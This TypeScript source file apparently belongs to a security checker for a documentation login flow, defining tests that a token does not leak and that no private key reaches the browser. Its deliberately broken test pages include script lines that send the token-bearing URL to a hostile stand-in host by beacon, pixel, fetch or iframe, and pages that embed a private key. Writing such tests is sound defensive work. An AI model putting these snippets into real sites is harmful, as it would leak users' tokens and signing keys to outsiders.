import type { Aside, Exchange } from '../../../protocol/exchange.js';
import type { LoginPlan } from '../../../protocol/plan.js';
import { requirement, type UndatedRequirement } from '../../../protocol/requirement.js';
import { findKeyMaterial, secretNumberSpellings } from '../../../protocol/secrecy/key-material.js';
import type { Sealed } from '../../../protocol/secrecy/sealed.js';
import { spellings } from '../../../protocol/secrecy/spellings.js';
import { met, notReached, notReachedFor, unmet } from '../../../protocol/verdict.js';
import { hostileHost } from '../return/values.js';
import { asvs, rfc } from '../sources.js';
import { anonymous, honestVisits } from '../visits.js';

const third = `https://${hostileHost}`;

/** Scheme and host of a URL, for a sentence. */
const placeOf = (url: string): string => (URL.canParse(url) ? new URL(url).origin : 'an address');

/**
 * Where a token or a code was left or sent besides the docs, as the end of a sentence; undefined where nowhere.
 *
 * @param text the token's signing input, or the code
 */
export function leak(aside: Aside, text: string): string | undefined {
  const forms = spellings(text);
  const holds = (seen: Sealed | undefined): boolean =>
    seen !== undefined && forms.some((form) => seen.reveal().includes(form));
  for (const { url, headers, body } of aside.requests) {
    const place = placeOf(url.reveal());
    if (holds(url)) return `stood in the URL of a request to ${place}`;
    if (holds(body)) return `stood in the body of a request to ${place}`;
    const field = headers.find(([, value]) => holds(value));
    if (field !== undefined)
      return `stood in the header field ${field[0]} of a request to ${place}`;
  }
  const message = aside.messages.find((sent) => holds(sent.text));
  if (message !== undefined) {
    return message.to === '*'
      ? "was handed to whoever listens, with postMessage(…, '*')"
      : `was handed to ${message.to} with postMessage`;
  }
  const stored = aside.stored.find((kept) => holds(kept.text));
  return stored === undefined ? undefined : `was left in ${stored.place}`;
}

/** A page that hands over by script, after doing something else with the callback URL, which its script calls `u`. */
export const scriptedHandOver =
  (script: string) =>
  (honest: LoginPlan): Partial<LoginPlan> => ({
    answer: (location, token, request) => {
      const { headers } = honest.answer(location, token, request);
      const text = JSON.stringify(location).replaceAll('<', String.raw`\u003c`);
      return {
        status: 200,
        headers: [
          ...headers.filter(([name]) => name !== 'Location'),
          ['Content-Type', 'text/html; charset=utf-8'],
        ],
        body: `<!doctype html><title>One moment</title><script>const u = ${text}; ${script} location.replace(u);</script>`,
      };
    },
  });

/** Pages that hand over by script and leak, as real ones do: the address goes to somebody else, or stays in the browser. */
export const leakyHandOvers: Readonly<
  Record<'beacon' | 'foreignFrame' | 'localStorage', ReturnType<typeof scriptedHandOver>>
> = {
  beacon: scriptedHandOver(`navigator.sendBeacon('${third}/collect', JSON.stringify({ u }));`),
  foreignFrame: scriptedHandOver(
    `const f = document.createElement('iframe'); f.src = '${third}/frame?page=' + encodeURIComponent(u); document.documentElement.append(f);`,
  ),
  localStorage: scriptedHandOver(`localStorage.setItem('next', u);`),
};

const tokenNotLeaked: UndatedRequirement = requirement({
  id: 'token-not-leaked',
  level: 'should',
  class: 'practice',
  source: rfc(9700, '4.2'),
  title: 'Nobody but the docs host gets the token',
  why: 'Whoever else has the token within its ten seconds reads the docs in the reader’s place; what is kept in the browser is read by every script of your site.',
  fix: 'Redirect from the server. Where a page must hand over, load nothing foreign in it, and keep the token out of analytics, error reports, postMessage and storage.',
  stage: 'token',
  visits: honestVisits,
  seenBy: ['browser'],
  check: ({ exchange, token }) => {
    if (exchange.aside === undefined) return notReached('The browser did not record it.');
    const found = leak(exchange.aside, token.signingInput.reveal());
    return found === undefined
      ? met
      : unmet('The token goes to the docs and nowhere else.', `The token ${found}.`);
  },
  brokenBy: [
    {
      name: 'analytics-beacon',
      change: leakyHandOvers.beacon,
    },
    {
      name: 'analytics-blob',
      change: scriptedHandOver(
        `navigator.sendBeacon('${third}/collect', new Blob([JSON.stringify({ u })], { type: 'text/plain' }));`,
      ),
    },
    {
      name: 'base64-pixel',
      change: scriptedHandOver(
        `new Image().src = '${third}/p?page=' + encodeURIComponent(btoa(u));`,
      ),
    },
    {
      name: 'encoded-header',
      change: scriptedHandOver(
        `fetch('${third}/report', { keepalive: true, headers: { 'X-Page': encodeURIComponent(u) } }).catch(() => 0);`,
      ),
    },
    {
      name: 'foreign-frame',
      change: leakyHandOvers.foreignFrame,
    },
    {
      name: 'post-message-star',
      change: scriptedHandOver(`(opener ?? parent).postMessage({ token: u }, '*');`),
    },
    {
      name: 'token-in-local-storage',
      change: leakyHandOvers.localStorage,
    },
    { name: 'token-in-session-storage', change: scriptedHandOver('sessionStorage.next = u;') },
    { name: 'token-in-window-name', change: scriptedHandOver('window.name = u;') },
    {
      name: 'token-in-script-cookie',
      change: scriptedHandOver(
        `document.cookie = 'next=' + encodeURIComponent(u.slice(u.indexOf('#') + 1)) + '; path=/';`,
      ),
    },
  ],
});

/** Every page, script, frame and answer of the login flow that a browser loaded. */
function loadedTexts({ hops, aside }: Exchange): readonly (readonly [url: string, text: Sealed])[] {
  return [
    ...hops.flatMap(({ url, body }) =>
      body?.text === undefined ? [] : [[url.reveal(), body.text] as const],
    ),
    ...(aside?.loaded ?? []).map(({ url, text }) => [url.reveal(), text] as const),
  ];
}

const keyNotInBrowser: UndatedRequirement = requirement({
  id: 'key-not-in-browser',
  essential: true,
  level: 'must',
  class: 'practice',
  source: asvs('13.3.1'),
  title: 'No private key is in a page or a script',
  why: 'Whoever opens the page can sign tokens for any reader, with any groups.',
  fix: 'Sign on the server only, take the key out of what the browser loads (variables named NEXT_PUBLIC_, VITE_ and REACT_APP_ end up there), and replace the key now.',
  stage: 'exchange',
  visits: [anonymous, ...honestVisits],
  seenBy: ['browser'],
  check: ({ exchange }, context) => {
    const texts = loadedTexts(exchange);
    const known = (context.keySpellings ?? []).map((form) => form.reveal());
    for (const [url, text] of texts) {
      const form = findKeyMaterial(text.reveal(), known);
      if (form === undefined) continue;
      const what =
        form === 'configured key' ? 'the configured private key' : `a private key (${form})`;
      const page = URL.canParse(url) ? new URL(url) : undefined;
      return unmet(
        'Nothing that a browser loads holds a private key.',
        `${page === undefined ? 'A page' : page.origin + page.pathname} holds ${what}.`,
      );
    }
    const answered = exchange.hops.some(({ status }) => status !== undefined);
    return answered && exchange.stop.code !== 'status' ? met : notReachedFor(exchange.stop);
  },
  brokenBy: [
    {
      name: 'key-in-page',
      change: () => ({
        pageHtml: (_returnTo, { privateText }) =>
          `<script>const signingKey = ${JSON.stringify(privateText())};</script>`,
      }),
    },
    {
      name: 'key-in-base64',
      change: () => ({
        pageHtml: (_returnTo, { privateText }) =>
          `<script>const signingKey = "${Buffer.from(privateText()).toString('base64')}";</script>`,
      }),
    },
    {
      name: 'key-as-octets',
      change: () => ({
        pageHtml: (_returnTo, { privateText }) => {
          const body = privateText().replace(/-----[A-Z ]+-----|\s/g, '');
          const known = secretNumberSpellings([body]);
          const octets = known.find((form) => /^\d+(?:,\d+){31}$/.test(form)) ?? '';
          return `<script>const seed = Uint8Array.of(${octets.replaceAll(',', ', ')});</script>`;
        },
      }),
    },
    {
      name: 'key-of-openssh',
      change: () => ({
        pageHtml: (_returnTo, { privateText }) => {
          const frame = Buffer.from(`openssh-key-v1\0${privateText()}`).toString('base64');
          const label = ['OPENSSH', 'PRIVATE', 'KEY'].join(' ');
          return `<script>const signingKey = \`-----BEGIN ${label}-----\n${frame}\n-----END ${label}-----\`;</script>`;
        },
      }),
    },
    {
      name: 'key-without-head',
      change: () => ({
        pageHtml: (_returnTo, { privateText }) =>
          `<script>const signingKey = \`${privateText().replace(/-----[A-Z ]+-----/g, '')}\`;</script>`,
      }),
    },
  ],
});

/** The rows about what a browser must not get or give away. */
export const leakRequirements: readonly UndatedRequirement[] = [keyNotInBrowser, tokenNotLeaked];
